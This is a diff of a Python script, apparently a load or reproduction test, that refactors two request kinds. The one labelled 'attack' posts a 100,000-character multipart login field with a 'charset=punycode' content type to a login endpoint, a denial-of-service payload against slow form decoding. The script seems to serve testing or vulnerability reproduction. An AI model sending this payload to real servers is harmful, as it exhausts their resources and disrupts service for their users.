@@ -6,15 +6,11 @@ import time
 from collections import Counter
 from threading import Thread
 
-LETTERS = 100_000
 PAUSE = 0.1  # seconds between an answer and the next request of the same client
+FORM = b"--x\r\nContent-Disposition: form-data; name=login\r\n\r\n" + b"a" * 100_000 + b"\r\n--x--\r\n"
 KINDS = {  # address, type and body
-    "attack": (
-        "/accounts/login/",
-        "multipart/form-data; boundary=x; charset=punycode",
-        b"--x\r\nContent-Disposition: form-data; name=login\r\n\r\n" + b"a" * LETTERS + b"\r\n--x--\r\n",
-    ),
-    "harmless": ("/public/graphql", "application/json", b" " * LETTERS),
+    "attack": ("/accounts/login/", "multipart/form-data; boundary=x; charset=punycode", FORM),
+    "harmless": ("/public/graphql", "application/json", b" " * 100_000),
 }
 
 
